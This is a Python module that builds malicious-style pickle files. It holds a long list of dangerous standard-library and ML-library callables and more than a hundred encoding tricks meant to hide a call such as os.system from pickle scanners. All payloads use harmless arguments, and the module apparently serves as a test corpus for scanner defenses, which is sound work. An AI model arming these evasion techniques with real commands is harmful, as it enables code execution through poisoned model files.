"""A small pickle assembler, and files made with it. Nothing here is ever loaded: the payloads only name what an
attacker would call, with arguments that would do nothing worth seeing."""

from __future__ import annotations

import struct

ECHO = "echo inert"


def u32(number: int) -> bytes:
    return struct.pack("<I", number)


def text(value: str, how: str = "auto") -> bytes:
    """A string, by one of the opcodes that push one."""
    raw = value.encode("utf-8", "surrogatepass")
    if how == "unicode":  # V, protocol 0
        return b"V" + value.encode("raw_unicode_escape") + b"\n"
    if how == "string":  # S, protocol 0
        return b"S" + repr(value).encode() + b"\n"
    if how == "binstring":
        return b"T" + u32(len(raw)) + raw
    if how == "short_binstring":
        return b"U" + bytes([len(raw)]) + raw
    if how == "binunicode":
        return b"X" + u32(len(raw)) + raw
    if how == "binunicode8":
        return b"\x8d" + struct.pack("<Q", len(raw)) + raw
    return b"\x8c" + bytes([len(raw)]) + raw if len(raw) < 256 else b"X" + u32(len(raw)) + raw


def push(value: object) -> bytes:
    """A plain value."""
    if value is None:
        return b"N"
    if value is True:
        return b"\x88"
    if value is False:
        return b"\x89"
    if isinstance(value, int):
        return b"J" + struct.pack("<i", value)
    if isinstance(value, float):
        return b"G" + struct.pack(">d", value)
    if isinstance(value, str):
        return text(value)
    if isinstance(value, bytes):
        return b"B" + u32(len(value)) + value
    if isinstance(value, tuple):
        return b"(" + b"".join(push(item) for item in value) + b"t"
    if isinstance(value, list):
        return b"](" + b"".join(push(item) for item in value) + b"e"
    if isinstance(value, dict):
        return b"}(" + b"".join(push(key) + push(item) for key, item in value.items()) + b"u"
    raise TypeError(type(value))


def name(module: str, attribute: str) -> bytes:
    """GLOBAL."""
    return b"c" + module.encode() + b"\n" + attribute.encode() + b"\n"


def stack_name(module: str, attribute: str, how: str = "auto") -> bytes:
    """STACK_GLOBAL."""
    return text(module, how) + text(attribute, how) + b"\x93"


def proto(number: int, body: bytes) -> bytes:
    """A whole pickle."""
    return (b"\x80" + bytes([number]) if number >= 2 else b"") + body + b"."


def made(module: str, attribute: str, state: bytes) -> bytes:
    """An instance that is made without arguments and given this state."""
    return name(module, attribute) + b")\x81" + state + b"b"


def mapping(items: dict[str, bytes]) -> bytes:
    """A dict of values that are written already."""
    return b"}(" + b"".join(text(key) + value for key, value in items.items()) + b"u"


def call(module: str, attribute: str, *arguments: object, protocol: int = 2) -> bytes:
    """A whole pickle that calls something."""
    target = stack_name(module, attribute) if protocol >= 4 else name(module, attribute)
    return proto(protocol, target + push(tuple(arguments)) + b"R")


# Every class of callable in the standard library, and a few beyond it, that gives whoever writes the file a foothold.
GADGETS: list[tuple[str, str, tuple]] = [
    ("os", "system", (ECHO,)),
    ("posix", "system", (ECHO,)),
    ("nt", "system", (ECHO,)),
    ("os", "popen", (ECHO,)),
    ("os", "execv", ("/bin/true", ["true"])),
    ("os", "spawnv", (0, "/bin/true", ["true"])),
    ("os", "putenv", ("LD_PRELOAD", "x.so")),
    ("os", "remove", ("no-such-file",)),
    ("os", "startfile", ("x",)),
    ("subprocess", "Popen", (["true"],)),
    ("subprocess", "check_output", (["true"],)),
    ("subprocess", "getoutput", (ECHO,)),
    ("commands", "getoutput", (ECHO,)),
    ("builtins", "eval", ("1+1",)),
    ("builtins", "exec", ("pass",)),
    ("builtins", "compile", ("1", "x", "eval")),
    ("builtins", "__import__", ("os",)),
    ("builtins", "open", ("no-such-file",)),
    ("builtins", "getattr", (1, "real")),
    ("builtins", "setattr", (1, "x", 1)),
    ("builtins", "breakpoint", ()),
    ("builtins", "input", ("?",)),
    ("builtins", "globals", ()),
    ("builtins", "map", (1, [])),
    ("__builtin__", "eval", ("1+1",)),
    ("__builtin__", "file", ("x",)),
    ("importlib", "import_module", ("os",)),
    ("importlib", "__import__", ("os",)),
    ("imp", "load_source", ("x", "x.py")),
    ("runpy", "run_path", ("x.py",)),
    ("runpy", "_run_code", ("pass", {})),
    ("pty", "spawn", ("true",)),
    ("platform", "popen", (ECHO,)),
    ("socket", "create_connection", (("127.0.0.1", 9),)),
    ("ctypes", "CDLL", ("x.so",)),
    ("ctypes.util", "find_library", ("c",)),
    ("shutil", "rmtree", ("no-such-folder",)),
    ("webbrowser", "open", ("x:",)),
    ("timeit", "timeit", ("pass",)),
    ("cProfile", "run", ("pass",)),
    ("profile", "runctx", ("pass", {}, {})),
    ("pdb", "run", ("pass",)),
    ("bdb", "Bdb", ()),
    ("trace", "Trace", ()),
    ("code", "InteractiveInterpreter", ()),
    ("codeop", "compile_command", ("1",)),
    ("asyncio.subprocess", "create_subprocess_shell", (ECHO,)),
    ("asyncio.unix_events", "_UnixSubprocessTransport._start", ()),
    ("multiprocessing.util", "spawnv_passfds", ("x", [], [])),
    ("pip", "main", ([],)),
    ("pip._internal", "main", ([],)),
    ("pydoc", "locate", ("os.system",)),
    ("pydoc", "pipepager", ("", ECHO)),
    ("doctest", "debug_script", ("1",)),
    ("idlelib.run", "Executive", ()),
    ("lib2to3.pgen2.grammar", "Grammar.loads", (b"",)),
    ("distutils.file_util", "write_file", ("x", [])),
    ("ensurepip", "_run_pip", ([],)),
    ("venv", "create", ("x",)),
    ("zipimport", "zipimporter", ("x.zip",)),
    ("pkgutil", "resolve_name", ("os:system",)),
    ("urllib.request", "urlopen", ("http://127.0.0.1:9/",)),
    ("urllib.request", "urlretrieve", ("http://127.0.0.1:9/", "x")),
    ("http.client", "HTTPConnection", ("127.0.0.1",)),
    ("ftplib", "FTP", ("127.0.0.1",)),
    ("smtplib", "SMTP", ("127.0.0.1",)),
    ("ssl", "get_server_certificate", (("127.0.0.1", 9),)),
    ("requests", "get", ("http://127.0.0.1:9/",)),
    ("aiohttp.client", "ClientSession", ()),
    ("operator", "attrgetter", ("system",)),
    ("operator", "methodcaller", ("system", ECHO)),
    ("functools", "partial", (1,)),
    ("functools", "reduce", (1, [])),
    ("types", "CodeType", (0,)),
    ("types", "FunctionType", (1, {})),
    ("marshal", "loads", (b"N",)),
    ("pickle", "loads", (b"N.",)),
    ("_pickle", "loads", (b"N.",)),
    ("dill", "loads", (b"N.",)),
    ("cloudpickle", "loads", (b"N.",)),
    ("joblib", "load", ("x.joblib",)),
    ("torch", "load", ("x.pt",)),
    ("torch.hub", "load", ("x/y", "z")),
    ("torch.serialization", "load", ("x.pt",)),
    ("torch.jit", "load", ("x.pt",)),
    ("torch._dynamo.guards", "GuardBuilder.get", ()),
    ("torch.utils._config_module", "load_config", (b"",)),
    ("torch.utils.bottleneck.__main__", "run_autograd_prof", ("1", {})),
    ("torch.fx.experimental.symbolic_shapes", "ShapeEnv.evaluate_guards_expression", ("1", [])),
    ("numpy", "load", ("x.npy", None, True)),
    ("numpy.testing._private.utils", "runstring", ("pass", {})),
    ("numpy.f2py.crackfortran", "getlincoef", ("1", [])),
    ("numpy.f2py.capi_maps", "getinit", ("1", {})),
    ("numpy.distutils.exec_command", "exec_command", (ECHO,)),
    ("pandas.io.pickle", "read_pickle", ("x.pkl",)),
    ("pandas.core.computation.eval", "eval", ("1",)),
    ("transformers.utils.hub", "cached_file", ("x", "y")),
    ("sklearn.utils._testing", "set_random_state", ()),
    ("logging.config", "listen", ()),
    ("logging", "FileHandler", ("x.log",)),
    ("sqlite3", "connect", ("x.db",)),
    ("tempfile", "mktemp", ()),
    ("signal", "raise_signal", (0,)),
    ("atexit", "register", (1,)),
    ("gc", "get_objects", ()),
    ("inspect", "getsource", (1,)),
    ("sys", "exit", (0,)),
    ("readline", "read_init_file", ("x",)),
    ("test.support.script_helper", "spawn_python", ()),
    ("uuid", "_get_command_stdout", ("true",)),
    ("nose.tools", "nottest", (1,)),
    ("fabric", "Connection", ("127.0.0.1",)),
    ("paramiko", "SSHClient", ()),
    ("IPython", "embed", ()),
]


def techniques() -> dict[str, bytes]:
    """Ways to reach one call that a reader of opcodes may miss."""
    system = name("os", "system")
    argument = b"(" + text(ECHO) + b"t"
    short = text(ECHO) + b"\x85"
    found = {
        "proto0-text": b"cos\nsystem\n(S'" + ECHO.encode() + b"'\ntR.",
        "proto0-posix-unicode": b"cposix\nsystem\n(V" + ECHO.encode() + b"\ntR.",
        "no-proto-binary": name("os", "system") + short + b"R.",
        "inst": b"(" + text(ECHO) + b"ios\nsystem\n.",
        "inst-proto0": b"(S'" + ECHO.encode() + b"'\nios\nsystem\n.",
        "obj": b"\x80\x02(" + system + text(ECHO) + b"o.",
        "newobj": b"\x80\x02" + name("subprocess", "Popen") + short + b"\x81.",
        "newobj-ex": b"\x80\x04" + stack_name("subprocess", "Popen") + short + b"}\x92.",
        "newobj-ex-keywords": b"\x80\x04" + stack_name("subprocess", "Popen") + b")" + push({"args": "true"}) + b"\x92.",
        "stack-global": proto(4, stack_name("os", "system") + short + b"R"),
        "stack-global-binunicode": proto(4, stack_name("os", "system", "binunicode") + short + b"R"),
        "stack-global-binunicode8": proto(4, stack_name("os", "system", "binunicode8") + short + b"R"),
        "stack-global-proto0-strings": proto(4, stack_name("os", "system", "unicode") + short + b"R"),
        "stack-global-in-proto0": stack_name("os", "system", "unicode") + short + b"R.",
        "stack-global-in-proto1": stack_name("os", "system", "short_binstring") + short + b"R.",
        "stack-global-in-proto2": proto(2, stack_name("os", "system") + short + b"R"),
        "memo-module": proto(4, text("os") + b"\x94" + text("system") + b"\x9400h\x00h\x01\x93" + short + b"R"),
        "memo-out-of-order": proto(4, text("system") + b"q\x07" + text("os") + b"q\x03" + b"00h\x03h\x07\x93" + short + b"R"),
        "memo-overwritten": proto(
            2, text("collections") + b"q\x00" + b"0" + text("os") + b"q\x00" + b"0h\x00" + text("system") + b"\x93" + short + b"R"
        ),
        "memo-long": proto(2, system + b"r" + u32(70000) + b"0j" + u32(70000) + short + b"R"),
        "memo-text": b"cos\nsystem\np12\n0g12\n(S'" + ECHO.encode() + b"'\ntR.",
        "memo-call-twice": proto(2, system + b"q\x01" + short + b"R0h\x01" + short + b"R"),
        "dup-name": proto(4, text("os") + b"2\x940" + text("system") + b"\x93" + short + b"R"),
        "pop-decoy": proto(2, name("collections", "OrderedDict") + b"0" + system + short + b"R"),
        "pop-mark-decoy": proto(2, b"(" + name("collections", "OrderedDict") + b"1" + system + short + b"R"),
        "result-popped": proto(2, system + short + b"R0" + push({"weights": [1.0]})),
        "result-in-dict": proto(2, b"}" + text("a") + system + short + b"Rs"),
        "deep-in-lists": proto(2, b"](" * 40 + system + short + b"R" + b"e" * 40),
        "after-many-values": proto(2, b"](" + b"K\x01" * 100_000 + b"e0" + system + short + b"R"),
        "after-large-bytes": proto(3, push(b"\0" * 2_000_000) + b"0" + system + short + b"R"),
        "second-pickle": proto(2, push([1, 2])) + call("os", "system", ECHO),
        "third-pickle-after-zeros": proto(2, push(1)) + proto(2, push(2)) + call("os", "system", ECHO),
        "second-pickle-proto0": proto(2, push([1, 2])) + b"cos\nsystem\n(S'x'\ntR.",
        "broken-after": proto(2, system + short + b"R")[:-1] + b"\xff\xff\xff",
        "no-stop": b"\x80\x02" + system + short + b"R",
        "stack-underflow-after": b"\x80\x02" + system + short + b"R000000.",
        "bad-memo-after": b"\x80\x02" + system + short + b"Rh\x63.",
        "proto-in-the-middle": b"\x80\x04" + text("x") + b"0\x80\x02" + system + short + b"R.",
        "proto-unknown": b"\x80\x63" + system + short + b"R.",
        "proto-255": b"\x80\xff" + system + short + b"R.",
        "frame": b"\x80\x04\x95" + struct.pack("<Q", 40) + stack_name("os", "system") + short + b"R.",
        "frame-lies-short": b"\x80\x04\x95" + struct.pack("<Q", 2) + stack_name("os", "system") + short + b"R.",
        "frame-lies-long": b"\x80\x04\x95" + struct.pack("<Q", 1 << 40) + stack_name("os", "system") + short + b"R.",
        "frame-nested": b"\x80\x04\x95" + struct.pack("<Q", 60) + b"\x95" + struct.pack("<Q", 40) + stack_name("os", "system") + short + b"R.",
        "dotted-name": proto(4, stack_name("collections", "abc.sys.modules") + b"."),
        "dotted-through-allowed": proto(4, stack_name("torch.nn.modules.linear", "torch.os.system") + short + b"R"),
        "dotted-numpy": proto(4, stack_name("numpy.core.multiarray", "os.system") + short + b"R"),
        "homoglyph-module": proto(4, stack_name("t\u043erch._utils", "_rebuild_tensor_v2") + b")R"),
        "nfkc-module": proto(4, stack_name("\uff4f\uff53", "system") + short + b"R"),
        "module-with-newline": proto(4, stack_name("os\n", "system") + short + b"R"),
        "module-with-nul": proto(4, stack_name("os\0", "system") + short + b"R"),
        "empty-module": proto(4, stack_name("", "system") + short + b"R"),
        "name-from-call": proto(4, text("os") + name("builtins", "str") + push(("system",)) + b"R\x93" + short + b"R"),
        "name-is-not-text": proto(4, push(1) + push(2) + b"\x93" + short + b"R"),
        "ext1": b"\x80\x02\x82\x05" + short + b"R.",
        "ext2": b"\x80\x02\x83\x05\x01" + short + b"R.",
        "ext4": b"\x80\x02\x84\x05\x01\x00\x00" + short + b"R.",
        "add-extension": proto(2, name("copyreg", "add_extension") + push(("os", "system", 5)) + b"R0\x82\x05" + short + b"R"),
        "copyreg-pickle": proto(2, name("copyreg", "pickle") + push((1, 2)) + b"R"),
        "copyreg-reconstructor": proto(2, name("copyreg", "_reconstructor") + b"(" + name("subprocess", "Popen") + name("builtins", "object") + b"NtR"),
        "copyreg-newobj": proto(2, name("copyreg", "__newobj__") + b"(" + name("subprocess", "Popen") + text("x") + b"tR"),
        "numpy-reconstruct-chain": proto(
            2,
            name("numpy.core.multiarray", "_reconstruct") + b"(" + name("subprocess", "Popen") + b"K\x00\x85" + push(b"b") + b"tR",
        ),
        "ordered-dict-of-call": proto(2, name("collections", "OrderedDict") + b"(](" + system + short + b"RetR"),
        "defaultdict-factory": proto(2, name("collections", "defaultdict") + b"(" + system + b"tR" + text(ECHO) + text("y") + b"s"),
        "build-on-class": proto(2, name("collections", "OrderedDict") + b"}" + text("__init__") + name("os", "system") + b"sb"),
        "build-slots": proto(2, name("collections", "OrderedDict") + b")R(N}" + text("__class__") + name("os", "system") + b"stb"),
        "build-setstate": proto(2, name("functools", "partial") + b"(" + name("os", "system") + b"tR(" + name("os", "system") + push((ECHO,)) + b"}Ntb"),
        "setitems-on-module": proto(2, name("os", "environ") + b"(" + text("LD_PRELOAD") + text("x.so") + b"u"),
        "append-to-sys-path": proto(2, name("sys", "path") + text("x") + b"a"),
        "setitem-sys-modules": proto(2, name("sys", "modules") + text("sys") + name("os", "system") + b"s"),
        "import-alone": proto(2, name("antigravity", "geohash")),
        "import-this": proto(2, name("this", "s")),
        "import-submodule": proto(4, stack_name("idlelib.__main__", "idlelib")),
        "main-class": proto(2, name("__main__", "Loader") + b")\x81}b"),
        "unknown-package": proto(2, name("totally_unknown_package.loader", "Model") + b")\x81}b"),
        "attribute-of-allowed-class": proto(4, stack_name("collections", "OrderedDict.__reduce__") + b")R"),
        "getattr-chain": proto(2, name("builtins", "getattr") + b"(" + name("os", "system") + text("__globals__") + b"tR"),
        "getitem-chain": proto(2, name("operator", "getitem") + b"(" + name("builtins", "globals") + b")R" + text("os") + b"tR"),
        "apply-map": proto(2, name("builtins", "list") + b"(" + name("builtins", "map") + b"(" + system + push([ECHO]) + b"tRtR"),
        "bytes-from-map": proto(2, name("builtins", "bytes") + b"(" + name("builtins", "map") + b"(" + system + push([ECHO]) + b"tRtR"),
        "frozenset-hash": proto(2, name("builtins", "filter") + b"(" + system + push([ECHO]) + b"tR"),
        "persistent-id": b"\x80\x02" + text("x") + b"Q.",
        "persistent-id-text": b"Pos.system\n.",
        "persistent-id-callable": b"\x80\x02" + system + b"Q" + short + b"R.",
        "next-buffer": b"\x80\x05\x97\x98" + b"0" + stack_name("os", "system") + short + b"R.",
        "nested-loads": proto(3, name("pickle", "loads") + b"(" + push(call("os", "system", ECHO)) + b"tR"),
        "nested-loads-alias": proto(3, name("_pickle", "Unpickler") + b"(" + push(1) + b"tR"),
        "codecs-decode": proto(2, name("codecs", "decode") + push((b"x", "zip")) + b"R"),
        "codecs-encode-odd": proto(2, name("_codecs", "encode") + push(("x", "rot13")) + b"R"),
        "string-formatting": proto(2, name("builtins", "str.format") + push(("{0.__class__}", 1)) + b"R"),
        "mark-inside": proto(2, b"((" + system + text(ECHO) + b"tt."),
        "callable-in-data": proto(2, push([1]) + b"0](" + system + b"e"),
        "unused-import": proto(2, system + b"0N"),
        "large-memo-index": proto(2, system + b"r\xff\xff\xff\xff" + short + b"R"),
        "long-with-sign": proto(2, b"\x8a\x04\xff\xff\xff\xff0" + system + short + b"R"),
        "float-text": b"F1.5\n0cos\nsystem\n(S'x'\ntR.",
        "int-text-bool": b"I01\n0cos\nsystem\n(S'x'\ntR.",
        "long-text": b"L123L\n0cos\nsystem\n(S'x'\ntR.",
        "crlf-in-global": b"cos\r\nsystem\n(S'x'\ntR.",
        "dict-opcode": b"(" + text("a") + system + short + b"Rd.",
        "list-opcode": b"(" + system + short + b"Rl.",
        "tuple3": b"\x80\x02N" + system + short + b"RN\x87.",
        "frozenset-opcode": b"\x80\x04(" + system + short + b"R\x91.",
        "additems": b"\x80\x04\x8f(" + system + short + b"R\x90.",
        "bytearray8": b"\x80\x05\x96" + struct.pack("<Q", 3) + b"abc0" + system + short + b"R.",
        "string-escape": b"S'o\\x73'\n0" + b"cos\nsystem\n(S'x'\ntR.",
    }
    return found
